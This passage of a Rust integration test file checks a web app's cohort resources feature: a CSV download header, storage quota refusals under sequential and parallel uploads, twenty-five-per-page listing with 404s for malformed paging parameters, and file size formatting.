                b"line,amount\r\n1,2\r\n".to_vec(),
            )),
        )
        .await,
    )
    .await;
    assert_eq!(page.path(), format!("/cohorts/{SLUG}/resources"));
    let id = resource_id(&app, "Budget").await;
    let got = net
        .colleague
        .get(&format!("/cohorts/{SLUG}/resources/{id}/file"))
        .await;
    assert_eq!(got.status(), 200);
    assert_eq!(
        got.headers()["content-disposition"],
        "attachment; filename=\"Budget 2027fdp.csv\""
    );
}

/// A PDF of about `kb` kilobytes.
fn pdf_of(kb: usize, text: &str) -> Vec<u8> {
    let mut bytes = pdf(text);
    bytes.extend(std::iter::repeat_n(b' ', kb * 1000));
    bytes
}

#[tokio::test]
async fn the_upload_that_would_pass_the_cohorts_quota_is_refused_and_facilitators_see_the_use() {
    let app = spawn_app_with(|c| c.cohort_quota_mb = 1).await;
    let net = Fixture::new(&app).await;
    for i in 0..3 {
        let page = Page::of(
            upload(
                &net.member,
                &format!("Part {i}"),
                "",
                Some(("part.pdf", pdf_of(300, &i.to_string()))),
            )
            .await,
        )
        .await;
        assert_eq!(page.status, 200, "{:?}", page.texts(".error-summary li"));
    }
    let page = Page::of(
        upload(
            &net.member,
            "One too many",
            "kept note",
            Some(("big.pdf", pdf_of(300, "four"))),
        )
        .await,
    )
    .await;
    assert_eq!(page.status, 422);
    let message = page.text("#file-error");
    assert!(
        message.starts_with("Error: The cohort's storage is full for this file (")
            && message.contains(" of 1.0 MB used. Remove files the cohort no longer needs"),
        "{message}"
    );
    assert_eq!(
        page.attr("input[name=title]", "value").as_deref(),
        Some("One too many")
    );
    assert_eq!(
        count(&app, "SELECT COUNT(*) FROM cohort_resources").await,
        3
    );
    assert_eq!(count(&app, "SELECT COUNT(*) FROM files").await, 3);

    let list = Page::of(
        net.facilitator
            .get(&format!("/cohorts/{SLUG}/resources"))
            .await,
    )
    .await;
    let used = list.text(".storage-used");
    assert!(
        used.starts_with("Files: ") && used.ends_with(" of 1.0 MB used."),
        "{used}"
    );
    let list = Page::of(net.member.get(&format!("/cohorts/{SLUG}/resources")).await).await;
    assert!(!list.has(".storage-used"));
}

#[tokio::test]
async fn twenty_parallel_uploads_never_pass_the_cohorts_quota() {
    let app = spawn_app_with(|c| c.cohort_quota_mb = 1).await;
    let net = Fixture::new(&app).await;
    let uploads = (0..20).map(|i| {
        let advisor = &net.member;
        async move {
            upload(
                advisor,
                &format!("Part {i}"),
                "",
                Some(("part.pdf", pdf_of(300, &i.to_string()))),
            )
            .await
            .status()
            .as_u16()
        }
    });
    let statuses = futures_util::future::join_all(uploads).await;
    assert_eq!(
        statuses.iter().filter(|s| **s == 200).count(),
        3,
        "{statuses:?}"
    );
    assert_eq!(
        statuses.iter().filter(|s| **s == 422).count(),
        17,
        "{statuses:?}"
    );
    let used = count(
        &app,
        "SELECT CAST(COALESCE(SUM(f.size), 0) AS BIGINT) FROM cohort_resources r JOIN files f ON f.id = r.file_id",
    )
    .await;
    assert!(used <= 1024 * 1024, "{used}");
    assert_eq!(count(&app, "SELECT COUNT(*) FROM files").await, 3);
}

#[tokio::test]
async fn the_resources_list_shows_twenty_five_a_page_newest_first_with_links_to_the_others() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    // 30 links, a minute apart, put straight into the database as adding a link stores them
    // (only the list's paging is under test here).
    let cohort: i64 = sqlx::query_scalar("SELECT id FROM cohorts WHERE slug = $1")
        .bind(SLUG)
        .fetch_one(&app.state.pool)
        .await
        .unwrap();
    let adder: i64 = count(&app, "SELECT id FROM people WHERE email = 'advisor@a.gov'").await;
    let start = app.state.clock.now() - 3_600;
    for n in 1..=30_i64 {
        sqlx::query(
            "INSERT INTO cohort_resources (cohort_id, title, note, note_html, url, added_by, created_at) \
             VALUES ($1, $2, 'A useful page.', '<p>A useful page.</p>', $3, $4, $5)",
        )
        .bind(cohort)
        .bind(format!("Link {n:02}"))
        .bind(format!("https://example.org/{n}"))
        .bind(adder)
        .bind(start + n * 60)
        .execute(&app.state.pool)
        .await
        .unwrap();
    }
    let list = format!("/cohorts/{SLUG}/resources");
    let titles = |p: &Page| p.texts(".resource-list .resource-title a");
    let expected = |from: i64, to: i64| -> Vec<String> {
        (to..=from).rev().map(|n| format!("Link {n:02}")).collect()
    };
    let first = Page::of(net.colleague.get(&list).await).await;
    assert_eq!(titles(&first), expected(30, 6));
    assert!(!first.has(".pager a[rel='prev']"));
    assert_eq!(first.text(".pager a[rel='next']"), "Older resources →");
    let older = first.attr(".pager a[rel='next']", "href").unwrap();
    let second = Page::of(net.colleague.get(&older).await).await;
    assert_eq!(titles(&second), expected(5, 1));
    assert!(!second.has(".pager a[rel='next']"));
    let back = Page::of(
        net.colleague
            .get(&second.attr(".pager a[rel='prev']", "href").unwrap())
            .await,
    )
    .await;
    assert_eq!(titles(&back), expected(30, 6));
    for bad in ["?after=junk", "?before=12", "?after=1-1"] {
        let r = net.colleague.get(&format!("{list}{bad}")).await;
        assert_eq!(r.status(), 404, "{bad}");
    }
}

#[tokio::test]
async fn file_sizes_read_one_decimal_in_kilobytes_and_megabytes() {
    let app = spawn_app().await;
    let net = Fixture::new(&app).await;
    let mut small = b"year,amount\n".to_vec();
    small.resize(1024, b'1');
    let page =
        Page::of(upload(&net.member, "Small sheet", "", Some(("small.csv", small))).await).await;
    assert_eq!(page.text(".resource-details"), "CSV file · 1.0 kB");
    let mut large = b"year,amount\n".to_vec();
    large.resize(2_516_582, b'1');
    upload(&net.member, "Large sheet", "", Some(("large.csv", large))).await;
    let page = Page::of(net.member.get(&format!("/cohorts/{SLUG}/resources")).await).await;
    let mut details = page.texts(".resource-details");
    details.sort();
    assert_eq!(details, ["CSV file · 1.0 kB", "CSV file · 2.4 MB"]);
}
